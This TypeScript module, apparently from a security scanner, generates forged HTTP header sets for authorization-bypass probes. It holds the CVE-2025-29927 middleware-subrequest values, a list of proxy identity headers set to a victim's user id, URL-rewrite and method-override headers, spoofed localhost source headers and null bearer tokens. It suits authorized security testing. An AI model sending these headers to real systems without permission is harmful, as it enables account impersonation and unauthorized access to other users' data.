/** A request that pretends to come from inside: from a proxy, a framework or a signed-in user. */
export interface ForgedHeaders {
  /** `x-middleware-subrequest: middleware`. */
  readonly name: string;
  readonly headers: { readonly [name: string]: string };
  /** Sent to this path instead of the operation's own. */
  readonly path?: string;
  readonly method?: 'POST';
}

/** What is known of the victim from outside: e-mail address, user id, tenant id. */
export interface Named {
  /** How reports call the victim: never an id, which differs between runs. */
  readonly name: string;
  readonly users: readonly string[];
  readonly tenant?: string;
}

/** CVE-2025-29927: the values that the framework's own sub-requests carried, for each place a middleware may live in. */
const SUBREQUESTS = [
  'middleware',
  'src/middleware',
  'pages/_middleware',
  'middleware:middleware:middleware:middleware:middleware',
  'src/middleware:src/middleware:src/middleware:src/middleware:src/middleware',
];

/** Headers by which a proxy tells the application who has signed in. */
const IDENTITY_HEADERS = [
  'x-user-id',
  'x-user',
  'x-user-email',
  'x-authenticated-user',
  'x-authenticated-userid',
  'x-forwarded-user',
  'x-forwarded-email',
  'x-forwarded-preferred-username',
  'x-auth-request-user',
  'x-auth-request-email',
  'x-remote-user',
  'remote-user',
  'x-webauth-user',
];

const LOCAL = '127.0.0.1';

/** Everything that is tried on one path. Identity headers go together, one request per name of the victim. */
export function forgedHeaders(path: string, victim: Named): readonly ForgedHeaders[] {
  return [
    ...SUBREQUESTS.map((value) => single('x-middleware-subrequest', value)),
    ...victim.users.map((user) => asUser(user, victim)),
    { ...single('x-original-url', path), path: '/' },
    { ...single('x-rewrite-url', path), path: '/' },
    { ...single('x-http-method-override', 'GET'), method: 'POST' },
    {
      name: 'headers of a local caller',
      headers: {
        'x-forwarded-for': LOCAL,
        'x-real-ip': LOCAL,
        'x-client-ip': LOCAL,
        'x-internal': 'true',
        'x-internal-request': '1',
      },
    },
    single('authorization', 'Bearer null'),
    single('authorization', 'Bearer undefined'),
  ];
}

function single(name: string, value: string): ForgedHeaders {
  return { name: `${name}: ${value}`, headers: { [name]: value } };
}

function asUser(user: string, { name, tenant }: Named): ForgedHeaders {
  const named = IDENTITY_HEADERS.map((header) => [header, user] as const);
  const inside = tenant === undefined ? [] : ([['x-tenant-id', tenant]] as const);
  return {
    name: `identity headers (x-user-id, x-forwarded-user …) that name ${name}`,
    headers: Object.fromEntries([...named, ...inside]),
  };
}

/** The headers of one attempt apart, to learn which of them it was. */
export function eachAlone({ headers }: ForgedHeaders): readonly ForgedHeaders[] {
  return Object.entries(headers).map(([name, value]) => ({
    name: `the header ${name}`,
    headers: { [name]: value },
  }));
}
